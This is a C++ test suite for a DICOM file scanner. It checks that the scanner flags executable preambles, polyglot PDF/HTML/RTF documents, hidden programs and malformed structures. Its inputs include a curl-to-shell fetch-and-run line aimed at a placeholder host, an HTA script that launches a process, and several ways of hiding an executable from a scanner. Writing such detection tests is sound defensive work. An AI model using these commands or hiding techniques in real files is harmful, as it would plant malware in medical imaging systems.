// Files built to get past a checker that has read our README: runnable preambles that do not look tidy,
// programs where the payload search did not look, broken structure in front of a program, documents that open
// as something else, and structure rules of PS3.5 A.4 and PS3.3 F.3.2.2. Each case asserts the check IDs and
// the evidence a user would act on.
#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <set>

#include "analysis.h"
#include "polyglot.h"

using namespace dg::files;
using namespace dgtest;

namespace {
Bytes text(const std::string& s) { return Bytes(s.begin(), s.end()); }
Bytes cat(Bytes a, const Bytes& b) {
  append(a, b);
  return a;
}
std::size_t header_size_of(const Bytes& m) { return 128 + 4 + m.size(); }
Bytes preamble_of(const Bytes& b) {
  Bytes p = b;
  p.resize(128, 0);
  return p;
}
Bytes with_meta_private(const Bytes& value) {
  Bytes m = meta();
  // (0002,0102) Private Information after the other meta elements, with a fixed group length.
  Bytes body(m.begin() + 12, m.end());
  append(body, el(2, 0x0100, "UI", str("1.2.3", '\0')));
  append(body, el(2, 0x0102, "OB", value));
  return grouped(2, body);
}
}  // namespace

// ---------------------------------------------------------------- preambles: what the loaders accept

TEST(EvasionPreamble, ElfWithZeroedIdentBytesRunsOnLinux) {
  Bytes e = elf_header(0x400);
  e[4] = e[5] = e[6] = 0;  // EI_CLASS, EI_DATA, EI_VERSION: binfmt_elf does not read them
  auto r = an(part10(preamble_of(e), dataset()));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "ELF");
  EXPECT_NE(f->evidence["detail"].get<std::string>().find("ident bytes the Linux loader ignores"), std::string::npos);
  EXPECT_EQ(r.verdict, Verdict::dangerous);
  EXPECT_EQ(first(r, "file.preamble.nonzero"), nullptr);
}

TEST(EvasionPreamble, ShebangWithBlanksOrARelativeInterpreter) {
  for (const std::string& p : std::vector<std::string>{"#!\t\t/bin/sh\nid\n", "#!" + std::string(60, ' ') + "/bin/sh\nid\n",
                                                       "#! \t python3\n", "#!sh\n"}) {
    SCOPED_TRACE(p);
    auto r = an(part10(preamble_of(text(p)), dataset()));
    const dg::Finding* f = first(r, "file.preamble.executable");
    ASSERT_NE(f, nullptr) << all_output(r);
    EXPECT_EQ(f->evidence["format"], "script");
  }
  // "#!" with no interpreter: execve refuses it, and the NUL bytes that follow stop bash.
  for (const char* p : {"#!", "#!   \n"}) {
    auto r = an(part10(preamble_of(text(p)), dataset()));
    EXPECT_EQ(first(r, "file.preamble.executable"), nullptr) << all_output(r);
    EXPECT_NE(r.fields["preamble"]["kind"], "executable");
  }
}

TEST(EvasionPreamble, TextThatAShellRunsWithoutShebang) {
  auto r = an(part10(preamble_of(text("curl -s http://x.example/a|sh;exit 0\n")), dataset()));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "shell script");
  // A vendor string followed by NUL bytes is binary to bash; a run of one letter has no command boundary.
  for (const Bytes& p : {preamble_of(text("ACME Imaging 1.0")), Bytes(128, 'U'), Bytes(128, ' ')}) {
    auto q = an(part10(p, dataset()));
    EXPECT_EQ(first(q, "file.preamble.executable"), nullptr) << all_output(q);
    EXPECT_NE(first(q, "file.preamble.nonzero"), nullptr) << all_output(q);
  }
}

TEST(EvasionPreamble, WindowsShortcutHeader) {
  const Bytes lnk = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, 0x9B, 0, 0x08, 0};
  auto r = an(part10(preamble_of(lnk), dataset()));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "Windows shortcut");
}

TEST(EvasionPreamble, HtmlApplicationAndDocumentsThatOpenAsSomethingElse) {
  // HTML whose script is later in the file (mshta reads all of it): a program.
  Bytes ds = dataset(el(0x0020, 0x4000, "LT", str("<script>new ActiveXObject('WScript.Shell').Run('calc')</script>")));
  auto r = an(part10(preamble_of(text("<html><body>")), ds));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "HTML application");
  // HTML without script, PDF and RTF: the file opens as a document.
  const std::pair<std::string, std::string> docs[] = {
      {"<!DOCTYPE html><html><p>hello</p>", "HTML"}, {"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n", "PDF"}, {"{\\rtf1\\ansi x}", "RTF"}};
  for (const auto& [p, format] : docs) {
    SCOPED_TRACE(format);
    auto q = an(part10(preamble_of(text(p)), dataset()));
    const dg::Finding* d = first(q, "file.polyglot.document");
    ASSERT_NE(d, nullptr) << all_output(q);
    EXPECT_EQ(d->evidence["format"], format);
    EXPECT_EQ(d->evidence["location"], "preamble");
    EXPECT_EQ(q.verdict, Verdict::dangerous);
    EXPECT_EQ(first(q, "file.preamble.executable"), nullptr);
  }
}

TEST(EvasionPreamble, PdfPolyglotNamesTheActiveContentItCarries) {
  const std::string body = "1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS (x) >> endobj";
  auto r = an(part10(preamble_of(text("%PDF-1.4\n")), dataset(el(0x0029, 0x1010, "OB", str(body)))));
  const dg::Finding* d = first(r, "file.polyglot.document");
  ASSERT_NE(d, nullptr) << all_output(r);
  EXPECT_EQ(d->evidence["active"]["/JavaScript"], 1);
  EXPECT_EQ(d->evidence["active"]["/OpenAction"], 1);
}

TEST(EvasionPreamble, PdfHeaderWithinReachOfTheStartButOutsideThePreamble) {
  // "%PDF-" in File Meta Private Information, well inside the first 1024 bytes that PDF readers search.
  auto r = an(part10({}, dataset(), with_meta_private(str("%PDF-1.7\n1 0 obj << >> endobj"))));
  const dg::Finding* d = first(r, "file.polyglot.document");
  ASSERT_NE(d, nullptr) << all_output(r);
  EXPECT_EQ(d->evidence["location"], "the first 1024 bytes");
  // An Encapsulated PDF object is a PDF within reach too, and that is what it is meant to be: not a polyglot.
  Bytes doc;
  append(doc, el(8, 0x16, "UI", str("1.2.840.10008.5.1.4.1.1.104.1", '\0')));
  append(doc, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(doc, el(0x42, 0x11, "OB", str("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n")));
  append(doc, el(0x42, 0x12, "LO", str("application/pdf")));
  auto q = an(part10({}, doc, meta("1.2.840.10008.1.2.1", "1.2.840.10008.5.1.4.1.1.104.1")));
  EXPECT_EQ(first(q, "file.polyglot.document"), nullptr) << all_output(q);
  EXPECT_EQ(q.verdict, Verdict::clean) << all_output(q);
}

// ---------------------------------------------------------------- payloads where the search did not look

TEST(EvasionPayload, ProgramInFileMetaPrivateInformation) {
  auto r = an(part10({}, dataset(), with_meta_private(pe_image())));
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["tag"], "(0002,0102)");
  EXPECT_EQ(f->evidence["location"], "File Meta element");
  EXPECT_EQ(r.verdict, Verdict::dangerous);
}

TEST(EvasionPayload, PreamblePointingIntoTheMetaGroupNamesTheElement) {
  const Bytes m = with_meta_private(pe_body());
  // The PE signature is the last value of the meta group: at its value offset.
  const std::size_t value_at = 128 + 4 + m.size() - pe_body().size();
  auto r = an(part10(mz_header(static_cast<std::uint32_t>(value_at)), dataset(), m));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["points"][0]["tag"], "(0002,0102)");
  EXPECT_EQ(f->evidence["points"][0]["location"], "File Meta element value");
  const auto payloads = all(r, "file.payload.executable");
  ASSERT_FALSE(payloads.empty()) << all_output(r);
  EXPECT_EQ(payloads.back()->evidence["tag"], "(0002,0102)");
}

TEST(EvasionPayload, NativePixelDataIsSearchedLikeAnyValue) {
  auto image = [](std::size_t at) {
    Bytes px(256u << 10, 0x11);
    const Bytes pe = pe_image();
    std::copy(pe.begin(), pe.end(), px.begin() + static_cast<std::ptrdiff_t>(at));
    Bytes ds;
    append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
    append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
    append(ds, el(0x7FE0, 0x10, "OW", px));
    return part10({}, ds);
  };
  for (std::size_t at : {std::size_t{8} << 10, std::size_t{60} << 10, std::size_t{100} << 10, std::size_t{250} << 10}) {
    auto r = an(image(at));
    const dg::Finding* f = first(r, "file.payload.executable");
    ASSERT_NE(f, nullptr) << at << all_output(r);
    EXPECT_EQ(f->evidence["tag"], "(7FE0,0010)");
    EXPECT_EQ(r.fields["scan_complete"], true);
  }
  // Past the per-file budget a value is searched by its first head_scan bytes, and the record says so.
  AnalyzeOptions small;
  small.full_scan_budget = 32u << 10;
  auto r = an(image(100u << 10), small);
  EXPECT_EQ(first(r, "file.payload.executable"), nullptr) << all_output(r);
  EXPECT_EQ(r.fields["scan_complete"], false);
}

TEST(EvasionPayload, ProgramAfterAFatalLengthIsFoundAndTheFileIsDangerous) {
  // An element whose length runs past the end, then a program 12 bytes later: the walk stops, the raw search goes on.
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, el(0x0029, 0x1010, "OB", {}, false, 0x7FFFFFF0u));
  append(ds, pe_image());
  auto r = an(part10({}, ds));
  EXPECT_EQ(r.verdict, Verdict::dangerous) << all_output(r);
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence["location"], "unparsed bytes");
  EXPECT_EQ(f->evidence["offset"], header_size_of(meta()) + ds.size() - pe_image().size());
  bool past = false;
  for (auto* s : all(r, "file.structure.invalid")) past |= s->evidence["problem"] == "length-past-end";
  EXPECT_TRUE(past);
  EXPECT_TRUE(r.has_payload);  // what sanitize --quarantine acts on
  // An invalid VR in the middle of the dataset stops the walk the same way.
  Bytes ds2 = dataset();
  ds2.insert(ds2.end() - 40, {0x29, 0x00, 0x10, 0x10, '?', '?', 0x10, 0x00});
  Bytes f2 = part10({}, ds2);
  append(f2, pe_image());
  auto r2 = an(f2);
  EXPECT_EQ(r2.verdict, Verdict::dangerous) << all_output(r2);
}

TEST(EvasionPayload, ProgramSplitAcrossAdjacentElements) {
  // The MZ header ends one private OB element; its PE signature starts the next. No single value holds a valid
  // header, the two joined do.
  const Bytes pe = pe_image();
  Bytes a(pe.begin(), pe.begin() + 64), b(pe.begin() + 64, pe.end());
  auto r = an(part10({}, dataset(cat(el(0x0029, 0x1010, "OB", a), el(0x0029, 0x1011, "OB", b)))));
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["location"], "split across elements");
  EXPECT_EQ(f->evidence["tag"], "(0029,1010)");
  EXPECT_EQ(f->evidence["continues_in"], "(0029,1011)");
  // A header whose pointer reaches past its own element into the file (e_lfanew past the value) is found too.
  Bytes c = mz_header(64 + 12);
  auto r2 = an(part10({}, dataset(cat(el(0x0029, 0x1010, "OB", c), el(0x0029, 0x1011, "OB", pe_body())))));
  ASSERT_NE(first(r2, "file.payload.executable"), nullptr) << all_output(r2);
}

TEST(EvasionPayload, ProgramsInTextAndNumericValues) {
  for (const char* v : {"UT", "LT", "OF", "US", "FD"}) {
    SCOPED_TRACE(v);
    Bytes pe = pe_image();
    if (pe.size() & 1) pe.push_back(0);
    const std::uint16_t e = std::string(v) == "US" ? 0x3002 : std::string(v) == "FD" ? 0x9219 : 0x4000;
    const std::uint16_t g = std::string(v) == "US" ? 0x0028 : std::string(v) == "FD" ? 0x0018 : 0x0020;
    auto r = an(part10({}, dataset(el(g, e, v, pe))));
    ASSERT_NE(first(r, "file.payload.executable"), nullptr) << all_output(r);
  }
  // A script in a text value is text: it is not reported.
  auto r = an(part10({}, dataset(el(0x0020, 0x4000, "LT", str("#!/bin/sh\necho a comment that looks like a script")))));
  EXPECT_EQ(first(r, "file.payload.executable"), nullptr) << all_output(r);
}

TEST(EvasionPayload, ElfWithZeroedIdentInsideAValue) {
  Bytes e = elf_header(0);
  e[4] = e[5] = e[6] = 0;
  e.resize(256, 0x90);
  auto r = an(part10({}, dataset(el(0x0029, 0x1010, "OB", e))));
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "ELF");
}

TEST(EvasionPayload, ZipEndRecordAtTheEndOfTheFile) {
  // The archive is the value of a private element after the pixel data, and that value ends the file: the end
  // record closes the file, which is where every ZIP reader starts. Its local header is hidden (its signature
  // overwritten), so only the end record and the central directory it names give it away.
  Bytes f = part10({}, dataset());
  Bytes z = zip_archive(static_cast<std::uint32_t>(f.size() + 12));
  z[0] = 'X';
  if (z.size() & 1) z.insert(z.end() - 22, 0);  // keep the end record last
  append(f, el(0x7FE1, 0x1010, "OB", z));
  auto r = an(f);
  const dg::Finding* a = first(r, "file.payload.archive");
  ASSERT_NE(a, nullptr) << all_output(r);
  EXPECT_EQ(a->evidence["location"], "end of the file");
  EXPECT_EQ(r.verdict, Verdict::dangerous);
  // An end record whose central directory is not where it says is not an archive.
  Bytes bogus = part10({}, dataset());
  const Bytes eocd = {'P', 'K', 5, 6, 0, 0, 0, 0, 1, 0, 1, 0, 46, 0, 0, 0, 0x10, 0, 0, 0, 0, 0};
  append(bogus, el(0x7FE1, 0x1010, "OB", eocd));
  auto q = an(bogus);
  EXPECT_EQ(first(q, "file.payload.archive"), nullptr) << all_output(q);
}

// ---------------------------------------------------------------- documents

TEST(EvasionDocument, EveryCopyOfARepeatedDocumentIsScanned) {
  const std::string evil = "%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n";
  const std::string good = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n";
  for (bool evil_first : {true, false}) {
    Bytes d;
    append(d, el(8, 0x16, "UI", str("1.2.840.10008.5.1.4.1.1.104.1", '\0')));
    append(d, el(8, 0x18, "UI", str(kSopInstance, '\0')));
    append(d, el(0x42, 0x11, "OB", str(evil_first ? evil : good)));
    append(d, el(0x42, 0x11, "OB", str(evil_first ? good : evil)));
    auto r = an(part10({}, d, meta("1.2.840.10008.1.2.1", "1.2.840.10008.5.1.4.1.1.104.1")));
    const dg::Finding* f = first(r, "file.encapsulated.active");
    ASSERT_NE(f, nullptr) << all_output(r);
    EXPECT_EQ(f->evidence["copies"], 2);
    EXPECT_EQ(f->evidence["counts"]["/JS"], 1);
    EXPECT_NE(first(r, "file.structure.invalid"), nullptr);  // the duplicate tag itself
  }
}

// ---------------------------------------------------------------- structure rules

TEST(EvasionStructure, PixelDataEncapsulationMustMatchTheTransferSyntax) {
  Bytes frag;
  append(frag, el(0x7FE0, 0x10, "OB", {}, false, 0xFFFFFFFFu));
  append(frag, item({}));
  append(frag, item(Bytes(64, 0x22)));
  append(frag, seq_delim());
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, frag);
  auto r = an(part10({}, ds, meta("1.2.840.10008.1.2.1")));
  const dg::Finding* f = first(r, "file.structure.invalid");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["problem"], "pixel-data-encapsulated");
  EXPECT_EQ(r.verdict, Verdict::malformed);
  // Defined-length Pixel Data under JPEG Baseline.
  auto q = an(part10({}, dataset(), meta("1.2.840.10008.1.2.4.50")));
  const dg::Finding* g = first(q, "file.structure.invalid");
  ASSERT_NE(g, nullptr) << all_output(q);
  EXPECT_EQ(g->evidence["problem"], "pixel-data-not-encapsulated");
  // Each under its own kind of transfer syntax is fine.
  EXPECT_EQ(an(part10({}, ds, meta("1.2.840.10008.1.2.4.50"))).verdict, Verdict::clean);
  EXPECT_EQ(an(part10({}, dataset(), meta("1.2.840.10008.1.2.1"))).verdict, Verdict::clean);
}

TEST(EvasionStructure, ImplicitDatasetUnderAnExplicitTransferSyntaxIsAMismatchNotALengthError) {
  // Built so that the explicit reading first finds elements: the first value's 4-byte implicit length reads as
  // the VR "UI" and a 16-bit length, and the explicit walk goes wrong only later.
  Bytes ds;
  append(ds, iel(8, 0x0005, str("ISO_IR 100")));
  append(ds, iel(8, 0x16, str(kSopClass, '\0')));
  append(ds, iel(8, 0x18, str(kSopInstance, '\0')));
  append(ds, iel(0x10, 0x10, str("TEST^PATIENT")));
  append(ds, iel(0x7FE0, 0x10, Bytes(64, 0x11)));
  auto r = an(part10({}, ds, meta("1.2.840.10008.1.2.1")));
  bool mismatch = false;
  for (auto* f : all(r, "file.meta.invalid")) mismatch |= f->evidence["problem"] == "transfer-syntax-mismatch";
  EXPECT_TRUE(mismatch) << all_output(r);
  for (auto* f : all(r, "file.structure.invalid")) EXPECT_NE(f->evidence["problem"], "length-past-end") << all_output(r);
  EXPECT_EQ(r.fields["encoding"], "implicit VR little endian (guessed)");
}

TEST(EvasionStructure, DicomdirOffsetsOutsideTheFile) {
  const std::string dir_class = "1.2.840.10008.1.3.10";
  auto ul = [](std::uint32_t v) { Bytes b; put32(b, v); return b; };
  auto build = [&](std::uint32_t first_offset, std::uint32_t next) {
    Bytes rec;
    append(rec, el(4, 0x1400, "UL", ul(next)));
    append(rec, el(4, 0x1410, "US", Bytes{0xFF, 0xFF}));
    append(rec, el(4, 0x1420, "UL", ul(0)));
    append(rec, el(4, 0x1430, "CS", str("PATIENT")));
    Bytes seq = el(4, 0x1220, "SQ", item(rec));
    Bytes ds;
    append(ds, el(4, 0x1130, "CS", str("TEST")));
    append(ds, el(4, 0x1200, "UL", ul(first_offset)));
    append(ds, el(4, 0x1202, "UL", ul(first_offset)));
    append(ds, el(4, 0x1212, "US", Bytes{0, 0}));
    append(ds, seq);
    return part10({}, ds, meta("1.2.840.10008.1.2.1", dir_class, kSopInstance));
  };
  // The record item's offset: find it by building once.
  Bytes probe = build(0, 0);
  const std::uint8_t item_tag[4] = {0xFE, 0xFF, 0x00, 0xE0};
  const auto it = std::search(probe.begin(), probe.end(), item_tag, item_tag + 4);
  const std::uint32_t record_at = static_cast<std::uint32_t>(it - probe.begin());
  auto ok = an(build(record_at, 0));
  EXPECT_EQ(ok.verdict, Verdict::clean) << all_output(ok);
  auto bad = an(build(record_at, 0x7FFFFFF0u));
  const dg::Finding* f = first(bad, "file.structure.invalid");
  ASSERT_NE(f, nullptr) << all_output(bad);
  EXPECT_EQ(f->evidence["problem"], "dicomdir-offset");
  EXPECT_EQ(f->evidence["tag"], "(0004,1400)");
  auto off = an(build(record_at + 2, 0));
  EXPECT_EQ(all(off, "file.structure.invalid").size(), 2u) << all_output(off);  // (0004,1200) and (0004,1202)
}

// ---------------------------------------------------------------- deflated datasets: bounded memory

TEST(EvasionDeflate, LargeValuesInADeflatedDatasetAreWalkedThroughTheWindow) {
  // A 40 MiB private OB value in a deflated dataset, the window 1 MiB: the walk goes through, the value is given
  // by its start, and a program after it is still found.
  Bytes big(40u << 20, 0);
  Bytes ds = dataset(cat(el(0x0029, 0x1010, "OB", big), el(0x0029, 0x1011, "OB", pe_image())));
  AnalyzeOptions o;
  o.stream_window = 1u << 20;
  auto r = an(part10({}, deflate_raw(ds), meta("1.2.840.10008.1.2.1.99")), o);
  EXPECT_EQ(ids(r).count("file.structure.invalid"), 0u) << all_output(r);
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["tag"], "(0029,1011)");
  EXPECT_EQ(f->evidence["offset_in"], "inflated dataset");
  EXPECT_EQ(r.fields["deflated"]["inflated"], ds.size());
  EXPECT_EQ(r.fields["scan_complete"], false);
}

TEST(EvasionDeflate, ProgramAfterAFatalProblemInAnInflatedDataset) {
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, el(0x0029, 0x1010, "OB", {}, false, 0x7FFFFFF0u));
  append(ds, pe_image());
  auto r = an(part10({}, deflate_raw(ds), meta("1.2.840.10008.1.2.1.99")));
  EXPECT_EQ(r.verdict, Verdict::dangerous) << all_output(r);
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence["location"], "unparsed bytes");
  EXPECT_EQ(f->evidence["offset_in"], "inflated dataset");
}

// ---------------------------------------------------------------- more rules the independent set asked for

TEST(EvasionPreamble, AProgramNamedLikeAnImage) {
  const Bytes pe = pe_image();
  auto named = [&](const std::string& name) { return analyze_bytes({pe.data(), pe.size()}, name, {}); };
  auto r = named("/cd/IMAGES/IM0001.DCM");
  EXPECT_EQ(r.verdict, Verdict::dangerous);
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["location"], "start of the file");
  // A viewer program on a patient CD is named like one: said, not alarmed.
  auto q = named("/cd/VIEWER/viewer.exe");
  EXPECT_EQ(q.verdict, Verdict::not_dicom);
  EXPECT_EQ(first(q, "file.not-dicom")->evidence["format"], "PE");
}

TEST(EvasionPreamble, BashRunsAPreambleWithoutZeroBytesInItsFirstLine) {
  auto r = an(part10(preamble_of(text("#!\n")), dataset()));
  const dg::Finding* f = first(r, "file.preamble.nonzero");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["shell_runs"], true);
  // A zero byte first: bash refuses the file.
  Bytes p(128, 0);
  p[17] = 1;
  EXPECT_EQ(an(part10(p, dataset())).fields["preamble"]["kind"], "sparse");
}

TEST(EvasionStructure, PixelDataShorterThanItsDimensions) {
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, el(0x28, 0x02, "US", Bytes{1, 0}));
  append(ds, el(0x28, 0x04, "CS", str("MONOCHROME2")));
  append(ds, el(0x28, 0x10, "US", Bytes{0, 16}));  // 4096 rows
  append(ds, el(0x28, 0x11, "US", Bytes{0, 16}));  // 4096 columns
  append(ds, el(0x28, 0x100, "US", Bytes{16, 0}));
  append(ds, el(0x7FE0, 0x10, "OW", Bytes(512, 0)));
  auto r = an(part10({}, ds));
  const dg::Finding* f = first(r, "file.structure.invalid");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["problem"], "pixel-data-short");
  // Enough bytes (the builder's 4x4 16-bit image holds 32): clean, and padding after the image is allowed.
  EXPECT_EQ(an(part10({}, dataset())).verdict, Verdict::clean);
}

TEST(EvasionStructure, BasicOffsetTableMustPointAtFragments) {
  auto encapsulated = [](std::uint32_t second) {
    Bytes bot;
    put32(bot, 0);
    put32(bot, second);
    Bytes px = el(0x7FE0, 0x10, "OB", {}, false, 0xFFFFFFFFu);
    append(px, item(bot));
    append(px, item(Bytes(64, 0x22)));
    append(px, item(Bytes(32, 0x23)));
    append(px, seq_delim());
    Bytes ds;
    append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
    append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
    append(ds, px);
    return part10({}, ds, meta("1.2.840.10008.1.2.4.50"));
  };
  EXPECT_EQ(an(encapsulated(8 + 64)).verdict, Verdict::clean);  // the second fragment starts 72 bytes in
  auto r = an(encapsulated(0x10000000));
  const dg::Finding* f = first(r, "file.structure.invalid");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["problem"], "offset-table");
}

TEST(EvasionStructure, DicomdirRecordsThatLoop) {
  const std::string dir_class = "1.2.840.10008.1.3.10";
  auto ul = [](std::uint32_t v) { Bytes b; put32(b, v); return b; };
  // Two records; the second's "next" points back at the first.
  auto build = [&](std::uint32_t a_next, std::uint32_t b_next) {
    auto rec = [&](std::uint32_t next) {
      Bytes r;
      append(r, el(4, 0x1400, "UL", ul(next)));
      append(r, el(4, 0x1410, "US", Bytes{0xFF, 0xFF}));
      append(r, el(4, 0x1420, "UL", ul(0)));
      append(r, el(4, 0x1430, "CS", str("PATIENT")));
      return item(r);
    };
    Bytes items = cat(rec(a_next), rec(b_next));
    Bytes ds;
    append(ds, el(4, 0x1130, "CS", str("TEST")));
    append(ds, el(4, 0x1200, "UL", ul(0)));
    append(ds, el(4, 0x1202, "UL", ul(0)));
    append(ds, el(4, 0x1212, "US", Bytes{0, 0}));
    append(ds, el(4, 0x1220, "SQ", items));
    return part10({}, ds, meta("1.2.840.10008.1.2.1", dir_class, kSopInstance));
  };
  const Bytes probe = build(0, 0);
  const std::uint8_t item_tag[4] = {0xFE, 0xFF, 0x00, 0xE0};
  const auto first_item = std::search(probe.begin(), probe.end(), item_tag, item_tag + 4);
  const auto second_item = std::search(first_item + 4, probe.end(), item_tag, item_tag + 4);
  const auto a = static_cast<std::uint32_t>(first_item - probe.begin()), b = static_cast<std::uint32_t>(second_item - probe.begin());
  EXPECT_EQ(an(build(b, 0)).verdict, Verdict::clean);
  auto r = an(build(b, a));
  const dg::Finding* f = first(r, "file.structure.invalid");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["problem"], "dicomdir-loop");
}

TEST(EvasionStructure, OtherWrongTransferSyntaxLabels) {
  // An explicit VR dataset labelled implicit, and a little-endian one labelled big endian.
  const std::pair<std::string, std::string> cases[] = {{"1.2.840.10008.1.2", "explicit VR little endian"},
                                                       {"1.2.840.10008.1.2.2", "explicit VR little endian"}};
  for (const auto& [ts, actual] : cases) {
    SCOPED_TRACE(ts);
    auto r = an(part10({}, dataset(), meta(ts)));
    bool mismatch = false;
    for (auto* f : all(r, "file.meta.invalid"))
      mismatch |= f->evidence["problem"] == "transfer-syntax-mismatch" &&
                  f->evidence["detail"].get<std::string>().find(actual) != std::string::npos;
    EXPECT_TRUE(mismatch) << all_output(r);
    EXPECT_EQ(ids(r).count("file.structure.invalid"), 0u) << all_output(r);
  }
}

TEST(EvasionStructure, AHeaderCutShortAtTheEndIsTruncationNotTrailingData) {
  Bytes f = part10({}, dataset());
  append(f, Bytes{0xFC, 0xFF, 0xFC, 0xFF, 'O', 'B'});  // 6 bytes of a header
  auto r = an(f);
  EXPECT_EQ(first(r, "file.trailing-data"), nullptr) << all_output(r);
  const dg::Finding* s = first(r, "file.structure.invalid");
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->evidence["problem"], "truncated-header");
  EXPECT_EQ(r.verdict, Verdict::malformed);
}

TEST(EvasionDocument, ADocumentThatCouldNotBeFullyCheckedIsSaidSo) {
  // An object stream that inflates past the per-stream limit: nothing active seen, and not called clean.
  std::string zeros(16u << 20, ' ');
  uLongf n = compressBound(static_cast<uLong>(zeros.size()));
  std::string z(n, '\0');
  compress2(reinterpret_cast<Bytef*>(z.data()), &n, reinterpret_cast<const Bytef*>(zeros.data()),
            static_cast<uLong>(zeros.size()), 9);
  z.resize(n);
  const std::string pdf = "%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length " + std::to_string(z.size()) +
                          " >>\nstream\n" + z + "\nendstream\nendobj\n%%EOF\n";
  Bytes d;
  append(d, el(8, 0x16, "UI", str("1.2.840.10008.5.1.4.1.1.104.1", '\0')));
  append(d, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(d, el(0x42, 0x11, "OB", str(pdf)));
  auto r = an(part10({}, d, meta("1.2.840.10008.1.2.1", "1.2.840.10008.5.1.4.1.1.104.1")));
  ASSERT_NE(first(r, "file.encapsulated.unscanned"), nullptr) << all_output(r);
  EXPECT_EQ(first(r, "file.encapsulated.active"), nullptr);
  EXPECT_EQ(r.verdict, Verdict::suspicious);
}

TEST(EvasionPreamble, BashRunnablePreambleWithACommandInATextValue) {
  auto r = an(part10(preamble_of(text("#!\n")), dataset(el(0x0020, 0x4000, "LT", str("note\necho hostile-script\n")))));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "shell script");
  EXPECT_EQ(f->evidence["points"][0]["tag"], "(0020,4000)");
}

TEST(EvasionPayload, ProgramStoredByteSwappedInABigEndianValue) {
  Bytes pe = pe_image();
  if (pe.size() & 1) pe.push_back(0);
  Bytes swapped = pe;
  for (std::size_t i = 0; i + 1 < swapped.size(); i += 2) std::swap(swapped[i], swapped[i + 1]);
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str(kSopClass, '\0'), true));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0'), true));
  append(ds, el(0x0029, 0x0010, "LO", str("ACME"), true));
  append(ds, el(0x0029, 0x1010, "OW", swapped, true));
  auto r = an(part10({}, ds, meta("1.2.840.10008.1.2.2")));
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_NE(f->evidence["detail"].get<std::string>().find("byte-swapped"), std::string::npos);
}
